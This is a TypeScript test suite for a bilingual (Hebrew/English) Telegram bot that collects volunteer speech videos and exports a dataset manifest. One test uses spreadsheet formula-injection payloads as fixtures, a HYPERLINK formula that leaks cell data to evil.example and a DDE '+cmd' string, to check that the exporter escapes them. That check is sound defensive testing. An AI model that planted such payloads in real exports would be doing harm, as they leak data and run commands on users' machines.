import { readFileSync } from 'node:fs';
import path from 'node:path';
import { createHash } from 'node:crypto';
import {
  formatManifest,
  isTestSentence,
  manifestRows,
  splitCounts,
  splitFor,
  tsvCell,
} from '../../../functions/lib/bot/export';
import { contributorHash, recordingIdFor } from '../../../functions/lib/bot/identity';
import { MESSAGES, label, seconds, t } from '../../../functions/lib/bot/i18n';
import {
  ACCENT_PRESETS,
  GENDERS,
  LANGUAGES,
  LIGHTING_OPTIONS,
  LOCATION_OPTIONS,
  QUALITY_CHECKS,
  REJECTED_VERDICTS,
  REPORT_REASONS,
  UNDISCLOSED,
  type Contributor,
  type Prompt,
  type Recording,
  type RecordingQuality,
  type Sentence,
} from '../../../functions/lib/bot/model';
import { countedTakes } from '../../../functions/lib/bot/prompts';
import { promptOnScreenAt } from '../../../functions/lib/bot/video';
import { REPO_ROOT } from '../../support/paths';
import { newSentence, parseSentenceLines, pickSentence } from '../../../functions/lib/bot/sentences';

function recording(userId: number, index: number, overrides: Partial<Recording> = {}): Recording {
  const hash = contributorHash(String(userId), 'salt');
  const recordingId = recordingIdFor(String(userId), `u-${index}`, 'salt');
  return {
    recordingId,
    status: 'stored',
    userId: String(userId),
    chatId: userId,
    contributorHash: hash,
    language: 'en',
    kind: 'sentence',
    promptId: `en-${index}`,
    promptText: `Sentence number ${index}`,
    bucket: 'uploads',
    key: `contributions/${hash}/${recordingId}.mp4`,
    mediaType: 'video',
    mimeType: 'video/mp4',
    durationSec: 3,
    fileUniqueId: `u-${userId}-${index}`,
    demographics: { gender: 'female', ageRange: '30-44', accent: 'us' },
    capture: {},
    createdAt: `2025-01-01T00:00:${String(index).padStart(2, '0')}Z`,
    ...overrides,
  };
}

const accepted = (overrides: Partial<RecordingQuality> = {}): RecordingQuality => ({
  jobId: 'j',
  jobStatus: 'COMPLETED',
  verdict: 'accepted',
  checkedAt: '2025-01-01T00:00:00Z',
  ...overrides,
});
const everyone = { blockedUserIds: new Set<string>(), minimum: 'any' as const };

describe('the export manifest', () => {
  // Prepare: 200 speakers, each reading three of 60 sentences
  const recordings = Array.from({ length: 200 }, (_, speaker) =>
    [0, 1, 2].map((index) => recording(5_000_000 + speaker, (speaker * 7 + index * 13) % 60)),
  ).flat();

  it('puts every speaker in exactly one split, and uses all three', () => {
    // Act
    const { rows } = manifestRows(recordings, everyone);

    // Assess
    const splits = new Map<string, Set<string>>();
    for (const row of rows) splits.set(row.speaker, (splits.get(row.speaker) ?? new Set()).add(row.split));
    expect([...splits.values()].every((set) => set.size === 1)).toBe(true);
    const counts = splitCounts(rows);
    expect(counts.train).toBeGreaterThan(100);
    expect(counts.dev).toBeGreaterThan(5);
    expect(counts.test).toBeGreaterThan(2);
  });

  it('keeps the test sentences for the test split alone, and says how many takes that held out', () => {
    // Act
    const { rows, excluded } = manifestRows(recordings, everyone);

    // Assess
    const testSentences = new Set(rows.filter((row) => row.split === 'test').map((row) => row.prompt_id));
    const otherSentences = new Set(rows.filter((row) => row.split !== 'test').map((row) => row.prompt_id));
    expect(testSentences.size).toBeGreaterThan(0);
    expect([...testSentences].filter((id) => otherSentences.has(id))).toEqual([]);
    for (const id of testSentences) expect(isTestSentence(id)).toBe(true);
    expect(excluded.heldOut).toBeGreaterThan(0);
    expect(rows.length + excluded.heldOut).toBe(recordings.length);
  });

  it('names speakers by hash only, never by Telegram id or chat id', () => {
    // Act
    const { rows } = manifestRows(recordings, everyone);
    const jsonl = formatManifest(rows, 'jsonl');
    const tsv = formatManifest(rows, 'tsv');

    // Assess
    for (const text of [jsonl, tsv]) {
      expect(recordings.filter((row) => text.includes(row.userId))).toEqual([]);
    }
    expect(tsv.split('\n')[0]!.split('\t')).toEqual(expect.arrayContaining(['face_ratio', 'consent_version']));
    expect(jsonl.trim().split('\n')).toHaveLength(rows.length);
  });

  it('leaves out test data, unfinished uploads, blocked speakers and takes below the minimum verdict', () => {
    // Prepare
    const mixed = [
      recording(1, 0, { isTest: true, quality: accepted() }),
      recording(2, 0, { status: 'uploading' }),
      recording(3, 0, { quality: accepted({ transcript: 'sentence number zero', wer: 0.333, faceRatio: 0.9 }) }),
      recording(4, 0, { quality: accepted() }),
      recording(5, 0, { quality: accepted({ verdict: 'unverified' }) }),
      recording(6, 0, { quality: accepted({ verdict: 'wrong_sentence' }) }),
      recording(7, 0),
    ];

    // Act
    const strict = manifestRows(mixed, { blockedUserIds: new Set(['4']), minimum: 'accepted' });
    const lenient = manifestRows(mixed, { blockedUserIds: new Set(['4']), minimum: 'unverified' });

    // Assess
    expect(strict.rows.map((row) => row.speaker)).toEqual([contributorHash('3', 'salt')]);
    expect(strict.rows[0]).toMatchObject({
      verdict: 'accepted',
      wer: 0.333,
      face_ratio: 0.9,
      transcript: 'sentence number zero',
    });
    expect(strict.excluded).toMatchObject({ blocked: 1, belowVerdict: 3 });
    expect(lenient.rows.map((row) => row.verdict).sort()).toEqual(['accepted', 'unverified']);
  });

  it('keeps a speaker in the split their hash gives, whatever else is exported', () => {
    const hash = contributorHash('42', 'salt');
    const calibration = recording(42, 0, { kind: 'calibration', promptId: 'calibration' });
    expect(manifestRows([calibration], everyone).rows[0]!.split).toBe(splitFor(hash));
    expect(manifestRows([...recordings, calibration], everyone).rows.find((row) => row.speaker === hash)!.split).toBe(
      splitFor(hash),
    );
  });

  it("keeps a spreadsheet from running a volunteer's text as a formula", () => {
    // Prepare: free text that Excel or LibreOffice would evaluate
    const hostile = recording(8, 0, {
      promptText: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      demographics: { accent: "+cmd|'/C calc'!A0", gender: '-1+1', ageRange: '@SUM(1)' },
      quality: accepted({ transcript: '\t=1+1' }),
    });

    // Act
    const tsv = formatManifest(manifestRows([hostile], everyone).rows, 'tsv');

    // Assess
    const [header, line] = tsv.replace(/\n$/, '').split('\n');
    const cells = Object.fromEntries(header!.split('\t').map((name, index) => [name, line!.split('\t')[index]]));
    expect(cells.prompt_text).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cells.accent).toBe("'+cmd|'/C calc'!A0");
    expect(cells.gender).toBe("'-1+1");
    expect(cells.age_range).toBe("'@SUM(1)");
    expect(cells.transcript).toBe("' =1+1");
    for (const cell of Object.values(cells)) expect(cell).not.toMatch(/^[=+\-@]/);
    expect(tsvCell(-0.5)).toBe('-0.5');
  });
});

describe('contributor hashes', () => {
  it('are stable per salt, differ between users and salts, and do not contain the id', () => {
    expect(contributorHash('123456789', 'a')).toBe(contributorHash('123456789', 'a'));
    expect(contributorHash('123456789', 'a')).not.toBe(contributorHash('123456780', 'a'));
    expect(contributorHash('123456789', 'a')).not.toBe(contributorHash('123456789', 'b'));
    expect(contributorHash('123456789', 'a')).not.toContain('123456789');
  });

  it('make recording ids keyed by the salt, so file_unique_id (the same for every bot) does not reveal them', () => {
    const id = recordingIdFor('123456789', 'AgADfile', 'salt-one');
    expect(id).toMatch(/^[0-9a-f]{24}$/);
    expect(recordingIdFor('123456789', 'AgADfile', 'salt-one')).toBe(id);
    expect(recordingIdFor('123456789', 'AgADfile', 'salt-two')).not.toBe(id);
    expect(id).not.toBe(createHash('sha256').update('123456789\nAgADfile').digest('hex').slice(0, 24));
  });
});

describe('choosing the next sentence', () => {
  const now = new Date('2025-01-01T00:00:00Z');
  const sentence = (text: string, recordings: number, active = true): Sentence => ({
    ...newSentence('en', text, 'test', now),
    recordings,
    active,
  });

  it('offers the sentence with the fewest recordings that this contributor has not done', () => {
    // Prepare
    const sentences = [
      sentence('Most recorded one.', 9),
      sentence('Never recorded.', 0),
      sentence('Once recorded.', 1),
    ];

    // Act
    const first = pickSentence(sentences, [], 'abc');
    const second = pickSentence(sentences, [first!.sentenceId], 'abc');

    // Assess
    expect(first?.text).toBe('Never recorded.');
    expect(second?.text).toBe('Once recorded.');
  });

  it('skips inactive sentences and returns nothing when all are done', () => {
    const sentences = [sentence('Retired sentence.', 0, false), sentence('Done sentence.', 0)];
    expect(pickSentence(sentences, [sentences[1]!.sentenceId], 'abc')).toBeUndefined();
  });

  it('spreads contributors over equally recorded sentences', () => {
    const sentences = Array.from({ length: 20 }, (_, index) => sentence(`Equal sentence ${index}.`, 0));
    const picks = new Set(
      Array.from({ length: 20 }, (_, index) => pickSentence(sentences, [], `person-${index}`)!.sentenceId),
    );
    expect(picks.size).toBeGreaterThan(5);
  });

  it('parses one sentence per line, dropping comments, duplicates and bad lengths', () => {
    const { accepted, rejected } = parseSentenceLines(
      `# comment\nHi\nA fine sentence.\n\nA fine sentence.\n${'x'.repeat(200)}`,
    );
    expect(accepted).toEqual(['A fine sentence.']);
    expect(rejected).toEqual(['Hi', 'x'.repeat(200)]);
  });

  it('gives the same text the same id, so seeding twice adds nothing', () => {
    expect(newSentence('he', ' שלום  עולם ', 'a', now).sentenceId).toBe(
      newSentence('he', 'שלום עולם', 'b', now).sentenceId,
    );
  });
});

describe('the bot strings', () => {
  it('have the same keys and placeholders in Hebrew and English', () => {
    const placeholders = (text: string) => [...text.matchAll(/\{(\w+)\}/g)].map((match) => match[1]).sort();
    expect(Object.keys(MESSAGES.he).sort()).toEqual(Object.keys(MESSAGES.en).sort());
    for (const key of Object.keys(MESSAGES.en) as Array<keyof typeof MESSAGES.en>) {
      expect([key, placeholders(MESSAGES.he[key])]).toEqual([key, placeholders(MESSAGES.en[key])]);
    }
  });
});

describe('the Hebrew wording', () => {
  it('says one second as "שנייה אחת", and counts the rest in words that agree', () => {
    expect(seconds('he', 1)).toBe('שנייה אחת');
    expect(seconds('he', 2)).toBe('שתי שניות');
    expect(seconds('he', 30)).toBe('30 שניות');
    expect(t('he', 'tooShort', { duration: seconds('he', 0.5), min: seconds('he', 1) })).toBe(
      'אורך הסרטון 0.5 שניות; הוא צריך להיות לפחות שנייה אחת. אנא הקליטו שוב.',
    );
    expect(seconds('en', 1)).toBe('1 second');
  });

  it('asks in the plural imperative on buttons too (דלגו, דווחו, הקליטו שוב)', () => {
    expect([MESSAGES.he.skip, MESSAGES.he.report, MESSAGES.he.recordAgain]).toEqual(['דלגו', 'דווחו', 'הקליטו שוב']);
    // No masculine singular imperatives addressed to the contributor (דווח alone is also "was reported").
    const singular = /(^|\s)(דלג|שלח|הקלט|לחץ|בחר|קח)(\s|$|[.,:!])/u;
    for (const [key, text] of Object.entries(MESSAGES.he)) expect([key, singular.test(text)]).toEqual([key, false]);
  });

  it('gives every prompt sentence a form that fits any reader (no masculine-only first person)', () => {
    const hebrew = readFileSync(path.join(REPO_ROOT, 'data', 'sentences', 'sentences.he.txt'), 'utf8');
    const firstPersonMasculine = /(^|\s)אני\s+(אוהב|רוצה|יודע|חושב|הולך|צריך|גר|עובד|מרגיש)(\s|$|[.,])/u;
    for (const line of hebrew.split('\n').filter((text) => !text.startsWith('#'))) {
      expect([line, firstPersonMasculine.test(line)]).toEqual([line, false]);
    }
  });

  it('labels every option button in both languages, never with a bare code', () => {
    const options: Array<[string, readonly string[]]> = [
      ['gender', GENDERS],
      ['age', [UNDISCLOSED]],
      ['accent', [...ACCENT_PRESETS.he, ...ACCENT_PRESETS.en, UNDISCLOSED]],
      ['reason', REPORT_REASONS],
      ['lighting', LIGHTING_OPTIONS],
      ['location', LOCATION_OPTIONS],
      ['verdict', ['pending', 'accepted', 'unverified', ...REJECTED_VERDICTS]],
      ['check', QUALITY_CHECKS],
    ];
    for (const language of LANGUAGES) {
      for (const [prefix, codes] of options) {
        for (const code of codes) {
          expect([prefix, code, `${prefix}_${code}` in MESSAGES[language]]).toEqual([prefix, code, true]);
          expect(label(language, prefix, code)).toBe(
            MESSAGES[language][`${prefix}_${code}` as keyof typeof MESSAGES.en],
          );
        }
      }
    }
  });
});

describe('the prompt on screen when a video was sent', () => {
  const at = (seconds: number) => new Date(Date.UTC(2025, 0, 1, 12, 0, seconds)).toISOString();
  const unix = (seconds: number) => Date.UTC(2025, 0, 1, 12, 0, seconds) / 1000;
  const prompt = (promptId: string, shownAt: number, endedAt?: number): Prompt => ({
    token: `t-${promptId}`,
    kind: 'sentence',
    promptId,
    text: promptId,
    language: 'en',
    shownAt: at(shownAt),
    ...(endedAt === undefined ? {} : { endedAt: at(endedAt) }),
  });
  const contributor = (current: Prompt | undefined, earlier: Prompt[]) =>
    ({ prompt: current, earlierPrompts: earlier }) as Contributor;

  it('is the newest prompt shown by then, so a late video goes under the sentence it was recorded for', () => {
    const state = contributor(prompt('B', 20), [prompt('A', 10, 20)]);
    expect(promptOnScreenAt(state, unix(25))?.promptId).toBe('B');
    expect(promptOnScreenAt(state, unix(19))?.promptId).toBe('A');
    expect(promptOnScreenAt(state, unix(5))).toBeUndefined();
  });

  it('is none after the last sentence left the screen with nothing after it', () => {
    const state = contributor(undefined, [prompt('A', 10, 20)]);
    expect(promptOnScreenAt(state, unix(15))?.promptId).toBe('A');
    expect(promptOnScreenAt(state, unix(21))).toBeUndefined();
  });
});

describe('the per-person cap', () => {
  it('counts stored readings the check did not reject, never calibration videos or unfinished uploads', () => {
    const quality = (verdict: RecordingQuality['verdict']) => ({
      quality: { jobId: 'j', jobStatus: 'x', verdict, checkedAt: 'x' },
    });
    const takes = [
      recording(1, 0),
      recording(1, 1, quality('accepted')),
      recording(1, 2, quality('unverified')),
      recording(1, 3, quality('wrong_sentence')),
      recording(1, 4, quality('no_face')),
      recording(1, 5, { kind: 'calibration' }),
      recording(1, 6, { status: 'uploading' }),
    ];
    expect(countedTakes(takes)).toBe(3);
  });
});
